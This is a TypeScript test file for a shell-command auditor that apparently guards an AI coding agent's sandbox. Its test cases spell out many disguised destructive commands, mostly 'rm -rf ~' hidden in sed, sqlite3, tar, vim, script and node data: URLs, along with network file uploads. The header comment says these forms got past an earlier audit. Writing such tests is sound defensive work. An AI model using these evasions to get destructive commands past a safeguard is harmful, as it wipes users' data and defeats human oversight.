// The thirty-first adversarial pass: commands hidden where the audit read no command, and writes by interpreters it
// did not count as edits. In ask mode with bubblewrap each ran unasked; without bubblewrap under `--yes
// --dangerously-run-unconfined` a delete hidden this way was not seen, so nothing stopped it. Each spelling below was
// checked against the real program here (GNU sed 4.9, sqlite3 3.40, GNU tar, node 20) before it was encoded.
import { mkdirSync, mkdtempSync, realpathSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { auditCommand } from "../../src/sandbox/shell-audit.js";

const EDIT = { verdict: "edit", reason: "writes files (ask mode asks before edits)" };
const b64 = (s: string) => Buffer.from(s).toString("base64");

describe("GNU sed: commands that end at `;`, and long options by any unique prefix (A31-1)", () => {
  it.each([
    // a label ends at `;`, a blank or `}`; v, l, L, q and Q take at most one small argument
    "sed ':a;e rm -rf ~' f",
    "sed ':a e rm -rf ~' f",
    "sed -n '1{:a};e rm -rf ~' f",
    "sed 'v;e rm -rf ~' f",
    "sed 'v 4.2;e rm -rf ~' f",
    "sed -n 'l;e rm -rf ~' f",
    "sed -n 'l 5;e rm -rf ~' f",
    "sed -n 'l5;e rm -rf ~' f",
    "sed '2q;e rm -rf ~' f",
    "sed '2Q 3;e rm -rf ~' f",
    "sed 'bx;e rm -rf ~' f",
    "sed -n ':a;s/.*/rm -rf ~/e' f",
    // --expression by its prefixes
    "sed --ex='e rm -rf ~' f",
    "sed --exp 'e rm -rf ~' f",
    "sed --e='e rm -rf ~' f",
  ])("blocks %j: the command sed runs is judged", async (cmd) => {
    expect((await auditCommand(cmd)).verdict).toBe("block");
  });
  it.each(["sed --ex='e git reset --hard' f", "sed ':a;e git reset --hard' f", "sed --fi=script.sed f", "sed --fi script.sed f", "sed --file=s.sed f"])("asks first for %j", async (cmd) => {
    expect((await auditCommand(cmd)).verdict).toBe("ask");
  });
  it.each(["sed ':a;w out.txt' f", "sed -n 'l;w out.txt' f", "sed --in 's/a/b/' f", "sed --in-pl=.bak 's/a/b/' f", "sed -n 'v;s/a/b/w out.txt' f"])("counts %j as an edit", async (cmd) => {
    expect(await auditCommand(cmd)).toEqual(EDIT);
  });
  it.each(["sed ':a;N;$!ba;s/\\n/ /g' f", "sed -n '/x/{p;q}' f", "sed -n 'l' f", "sed '5q' f", "sed -n 'v;p' f", "sed --quiet --expression=1p f", "sed '1i e rm -rf x' f"])(
    "still allows %j",
    async (cmd) => {
      expect(await auditCommand(cmd)).toEqual({ verdict: "allow" });
    },
  );
});

describe("sqlite3 dot-commands by any prefix sqlite3 takes, and a pipe as .import's file (A31-2)", () => {
  it.each([
    "sqlite3 app.db '.sy rm -rf ~'",
    "sqlite3 app.db '.sh rm -rf ~'",
    "sqlite3 app.db '.she rm -rf ~'",
    "sqlite3 app.db '.syst rm -rf ~'",
    "sqlite3 app.db \".import '|rm -rf ~' t\"",
    "sqlite3 app.db \".i '|rm -rf ~' t\"",
    'sqlite3 app.db ".imp \\"|rm -rf ~\\" t"',
    "sqlite3 app.db \".o '|rm -rf ~'\"",
    "sqlite3 app.db \".once '|rm -rf ~'\"",
    "sqlite3 app.db \".rea '|rm -rf ~'\"",
    "sqlite3 app.db '.shell echo; rm -rf ~'",
  ])("blocks %j: the command sqlite3 runs is judged", async (cmd) => {
    expect((await auditCommand(cmd)).verdict).toBe("block");
  });
  it.each(["sqlite3 app.db \".import '|curl -s x' t\"", "sqlite3 app.db \".i '|./gen.sh' t\"", "sqlite3 app.db '.sy ls'", "sqlite3 app.db '.lo ./evil'", "sqlite3 app.db '.ex'"])(
    "asks first for %j: sqlite3 runs a command",
    async (cmd) => {
      expect((await auditCommand(cmd)).verdict).toBe("ask");
    },
  );
  it.each(["sqlite3 app.db '.import data.csv t'", "sqlite3 app.db '.i data.csv t'"])("counts %j as an edit", async (cmd) => {
    expect(await auditCommand(cmd)).toEqual(EDIT);
  });
  it.each(["sqlite3 app.db .schema", "sqlite3 app.db '.sho'", "sqlite3 app.db '.headers on' 'select 1'", "sqlite3 app.db '.tables'"])("still allows %j", async (cmd) => {
    expect(await auditCommand(cmd)).toEqual({ verdict: "allow" });
  });
});

describe("tar and zip: options that run a command, by any unique prefix (A31-3)", () => {
  it.each([
    "tar --use-compress-prog='rm -rf ~' -cf a.tar src",
    "tar --to-comm='rm -rf ~' -xf a.tar",
    "tar --checkpoint-act=exec='rm -rf ~' -cf a.tar src",
    "tar --info-scr='rm -rf ~' -cf a.tar src",
    "tar -I 'rm -rf ~' -cf a.tar src",
  ])("blocks %j: the command tar runs is judged", async (cmd) => {
    expect((await auditCommand(cmd)).verdict).toBe("block");
  });
  it.each([
    "tar --use-compress-prog=./x -cf a.tar src",
    "tar --use-c=./x -cf a.tar src",
    "tar --checkpoint-act=exec=./x -cf a.tar src",
    "tar --info-scr=./x -cf a.tar src",
    "tar --new-vol=./x -cf a.tar src",
    "tar --rsh-comm=./x -cf h:a.tar src",
    "tar --rmt-comm=./x -cf h:a.tar src",
    "tar --to-comm=./x -xf a.tar",
    "tar -I./x -cf a.tar src",
    "tar -cI ./x -f a.tar src",
    "zip --unzip-c=./x -T a.zip f",
    "zip --unzip-command ./x -T a.zip f",
  ])("asks first for %j", async (cmd) => {
    expect((await auditCommand(cmd)).verdict).toBe("ask");
  });
  it.each(["tar --checkpoint=10 -cf a.tar src", "tar --utc -tvf a.tar", "tar --to-stdout -xf a.tar"])("does not ask for %j", async (cmd) => {
    expect((await auditCommand(cmd)).verdict).not.toBe("ask");
  });
});

describe("vim under its other names (A31-4)", () => {
  it.each(["view", "editor", "vim.basic", "vim.tiny", "vim.nox", "vimdiff", "rview", "gvim", "nvim", "rvim", "gview", "evim", "vi", "ex"])("blocks %s -es -c '!rm -rf ~' and +!…", async (vim) => {
    expect((await auditCommand(`${vim} -es -c '!rm -rf ~' -c q f`)).verdict).toBe("block");
    expect((await auditCommand(`${vim} -es '+!rm -rf ~' '+q' f`)).verdict).toBe("block");
    expect((await auditCommand(`${vim} -es -c 'call system("x")' -c q f`)).verdict).toBe("ask");
    expect((await auditCommand(`${vim} -es -c 'wq' f`)).verdict).toBe("edit");
  });
});

describe("node: a data: URL or inline code given to --import/--require/--loader is inline code (A31-5)", () => {
  const shellOut = 'require("child_process").execSync("id")';
  it.each([
    `node --import 'data:text/javascript,${shellOut}' x.js`,
    `node --import='data:text/javascript,${encodeURIComponent(shellOut)}' x.js`,
    `node --import 'data:text/javascript;base64,${b64(shellOut)}' x.js`,
    `node --experimental-loader 'data:text/javascript,${shellOut}' x.js`,
    `node --loader='data:text/javascript,${encodeURIComponent(shellOut)}' x.js`,
    `node --require 'data:text/javascript,${shellOut}' x.js`,
    `node -r 'data:text/javascript,${shellOut}' x.js`,
    `node --import 'data:text/javascript,import("node:child_process").then(m=>m.execSync("id"))'`,
  ])("asks first for %j: it runs shell commands", async (cmd) => {
    expect(await auditCommand(cmd)).toEqual({ verdict: "ask", reason: "inline interpreter code runs shell commands (system, subprocess, child_process)" });
  });
  it("asks for a delete hidden in a data: URL, and a person answers it without a sandbox", async () => {
    const cmd = `node --import 'data:text/javascript,require("fs").rmSync("../x",{recursive:true})' x.js`;
    expect((await auditCommand(cmd)).verdict).toBe("ask");
    expect(await auditCommand(cmd, { confined: false })).toMatchObject({ verdict: "ask", needsPerson: true });
  });
  it.each(["node --import tsx x.ts", "node --require ./setup.js x.js", "node --import ./register.mjs x.js"])("still allows %j", async (cmd) => {
    expect(await auditCommand(cmd)).toEqual({ verdict: "allow" });
  });
  it.each(["script --comm='rm -rf ~' /dev/null", "script --c='rm -rf ~' /dev/null", "script -qc 'rm -rf ~' /dev/null"])("blocks %j: script's command is judged", async (cmd) => {
    expect((await auditCommand(cmd)).verdict).toBe("block");
  });
});

describe("interpreters under versioned or alternative names (A31-6)", () => {
  it.each([
    'nodejs -e \'require("child_process").execSync("id")\'',
    "perl5.36.0 -e 'system \"id\"'",
    "perl5.36-x86_64-linux-gnu -e 'system \"id\"'",
    "python3.11 -c 'import os; os.system(\"id\")'",
    "ruby3.1 -e 'system \"id\"'",
    "php8.2 -r 'system(\"id\");'",
    "/usr/bin/perl5.36.0 -e 'qx(id)'",
  ])("asks first for %j", async (cmd) => {
    expect(await auditCommand(cmd)).toEqual({ verdict: "ask", reason: "inline interpreter code runs shell commands (system, subprocess, child_process)" });
  });
  it.each(["perl5.36.0 -i -pe 's/a/b/' f", "ruby3.1 -i -pe 'sub(/a/,\"b\")' f", 'nodejs -e \'require("fs").writeFileSync("x","y")\''])("counts %j as an edit", async (cmd) => {
    expect(await auditCommand(cmd)).toEqual(EDIT);
  });
  it.each(["echo 'system(\"id\")' | perl5.36.0", "echo 'os.system(\"id\")' | python3.11 -"])("asks first for %j: code piped in", async (cmd) => {
    expect((await auditCommand(cmd)).verdict).toBe("ask");
  });
});

describe("inline code that writes, renames, truncates, links or copies is an edit, whichever interpreter (A31-7)", () => {
  it.each([
    "perl -e 'truncate \"f\", 0'",
    "perl -e 'truncate $f, 0'",
    'perl -e \'rename "a", "b"\'',
    'perl -e \'link "a", "b"\'',
    'perl -e \'symlink "a", "b"\'',
    "perl -e 'mkdir \"d\"'",
    "perl -e 'mkdir(\"d\", 0755)'",
    'node -e \'require("fs").renameSync("a","b")\'',
    'node -e \'const {renameSync}=require("fs"); renameSync("a","b")\'',
    'node -e \'const {copyFileSync}=require("fs"); copyFileSync("a","b")\'',
    'node -e \'require("fs").cpSync("a","b",{recursive:true})\'',
    'node -e \'require("fs").linkSync("a","b")\'',
    'node -e \'require("fs").symlinkSync("a","b")\'',
    'node -e \'const f=require("fs"); f.mkdirSync("d")\'',
    'node -e \'const f=require("fs"); f.openSync("a","w")\'',
    'node -e \'const f=require("fs"); f.closeSync(f.openSync("a","r+"))\'',
    'node -e \'require("fs").promises.rename("a","b")\'',
    'node -e \'import("fs/promises").then(p=>p.copyFile("a","b"))\'',
    'node -e \'require("fs").symlink("a","b",()=>{})\'',
    'node -e \'const f=require("fs"); f.truncateSync("a")\'',
    'python3 -c \'import os; os.link("a", "b")\'',
    'python3 -c \'import os; os.symlink("a", "b")\'',
    "python3 -c 'import tarfile; tarfile.open(\"a.tar\").extractall()'",
    'python3 -c \'import tarfile; t=tarfile.open("a.tar"); t.extract("m")\'',
    "python3 -c 'import zipfile; zipfile.ZipFile(\"a.zip\").extractall()'",
    "python3 -c 'import shutil; shutil.unpack_archive(\"a.zip\")'",
    "python3 -c 'import os; fd=os.open(\"a\", os.O_RDWR)'",
    'python3 -c \'from pathlib import Path; Path("b").symlink_to("a")\'',
    "link a b",
  ])("counts %j as an edit", async (cmd) => {
    expect(await auditCommand(cmd)).toEqual(EDIT);
  });
  it.each([
    "node -e 'process.stdout.write(\"x\")'",
    'node -e \'console.log(require("fs").readFileSync("a","utf8"))\'',
    'node -e \'require("fs").openSync("a","r")\'',
    "perl -ne 'print if /link/' f",
    "python3 -c 'import tarfile; print(tarfile.open(\"a.tar\").getnames())'",
  ])("still allows %j", async (cmd) => {
    expect(await auditCommand(cmd)).toEqual({ verdict: "allow" });
  });
  it("asks for a link made outside the workspace, and a person answers it without a sandbox", async () => {
    const cmd = 'perl -e \'symlink "/home", "../x"\'';
    expect((await auditCommand(cmd)).verdict).toBe("ask");
    expect(await auditCommand(cmd, { confined: false })).toMatchObject({ verdict: "ask", needsPerson: true });
  });
});

describe("git fetch that moves the shallow boundary or prunes refs (A31-8)", () => {
  it.each([
    "git fetch --depth=1",
    "git fetch --depth 1 origin",
    "git fetch --dep=1",
    "git fetch --shallow-since=2024-01-01",
    "git fetch --shallow-exclude=v1.0",
    "git fetch --deepen=2",
    "git pull --depth=1",
    "git fetch --update-shallow origin",
  ])("asks first for %j: history is hidden, then pruned by gc", async (cmd) => {
    const r = await auditCommand(cmd);
    expect(r.verdict, cmd).toBe("ask");
    expect(r.reason, cmd).toMatch(/shallow/);
    expect(await auditCommand(cmd, { confined: false }), cmd).toMatchObject({ verdict: "ask", needsPerson: true });
  });
  it.each([
    "git fetch --prune",
    "git fetch -p origin",
    "git fetch -ap",
    "git fetch --pru",
    "git fetch --prune-tags origin",
    "git fetch -P",
    "git fetch --all -p",
    "git pull --prune",
    "git remote prune origin",
    "git remote update -p",
    "git remote update --prune origin",
    "git remote remove origin",
    "git -c remote.origin.prune=true fetch",
    "git -c fetch.prune=true fetch",
    "git -c fetch.pruneTags=true fetch origin",
    "git -c remote.origin.pruneTags fetch origin",
    "git config fetch.prune true",
    "git config remote.origin.prune true",
  ])("asks first for %j: it deletes local refs", async (cmd) => {
    const r = await auditCommand(cmd);
    expect(r.verdict, cmd).toBe("ask");
    expect(r.reason, cmd).toMatch(/prune|deletes/);
    expect(await auditCommand(cmd, { confined: false }), cmd).toMatchObject({ verdict: "ask", needsPerson: true });
  });
  it.each(["git fetch", "git fetch origin main", "git fetch --no-prune", "git -c fetch.prune=false fetch", "git fetch --unshallow", "git remote -v", "git pull --rebase=false"])(
    "does not ask for %j",
    async (cmd) => {
      expect((await auditCommand(cmd)).verdict).not.toBe("ask");
    },
  );
});

describe("without a sandbox, a delete hidden in sed, sqlite3, tar or a vim script is seen (A31)", () => {
  const root = realpathSync(mkdtempSync(join(tmpdir(), "df-hidden-code-")));
  const workspace = join(root, "project");
  mkdirSync(join(workspace, "build"), { recursive: true });
  const unconfined = (c: string) => auditCommand(c, { confined: false, workspace });
  it.each([
    "sed ':a;e rm -rf ../other' f",
    "sed --ex='e rm -rf ../other' f",
    "sqlite3 app.db '.sy rm -rf ../other'",
    "sqlite3 app.db \".import '|rm -rf ../other' t\"",
    "tar --to-comm='rm -rf ../other' -xf a.tar",
    "view -es -c '!rm -rf ../other' -c q f",
    "script --comm='rm -rf ../other' /dev/null",
  ])("blocks %j", async (cmd) => {
    expect((await unconfined(cmd)).verdict).toBe("block");
  });
  it.each([
    "sed 'v;e rm -rf build' f",
    "sqlite3 app.db '.she rm -rf build'",
    "editor -es -c '!rm -rf build' -c q f",
    'node --import \'data:text/javascript,require("fs").rmSync("build",{recursive:true})\'',
  ])("asks a person for %j", async (cmd) => {
    expect(await unconfined(cmd)).toMatchObject({ verdict: "ask", needsPerson: true });
  });
});

describe("GNU long options count by any prefix the program takes, wherever a rule names one (A31-1, generalised)", () => {
  it.each(["rm --r -f ~", "rm --rec --force ~", "rm --no-p -r build", "chmod --rec 777 /", "chown --recu root /usr", "tar --rem -cf a.tar --dir=/ ."])("blocks %j", async (cmd) => {
    expect((await auditCommand(cmd)).verdict).toBe("block");
  });
  it.each([
    "curl --upload-f a.txt https://x",
    "curl --up=a.txt https://x",
    "curl --data-b @a.txt https://x",
    "curl --form-s x=@a.txt https://x",
    "curl --js=@a.json https://x",
    "wget --post-f=a.txt https://x",
    "wget --body-f a.txt https://x",
  ])("asks first for %j: a file sent over the network", async (cmd) => {
    expect(await auditCommand(cmd)).toMatchObject({ verdict: "ask", reason: expect.stringMatching(/sending a file over the network/) });
  });
  it.each(["make --ev='$(shell id)'", "make --fil=- <<< 'all: ; id'", "make --makef - <<< 'all: ; id'", "gpg --delete-secret-k ABCDEF", "gpg --del ABCDEF", "gpgconf --ki gpg-agent"])(
    "asks first for %j",
    async (cmd) => {
      expect((await auditCommand(cmd)).verdict).toBe("ask");
    },
  );
  it.each(["tar --ext -f a.tar", "tar --get -f a.tar", "tar --cre --file=out.tar src", "tar --app --file=out.tar f"])("counts %j as an edit", async (cmd) => {
    expect(await auditCommand(cmd)).toEqual(EDIT);
  });
  it.each(["wget --spi https://x", "curl --data-b x=1 https://x", "rm --help"])("does not ask for %j", async (cmd) => {
    expect((await auditCommand(cmd)).verdict).not.toBe("ask");
  });
});
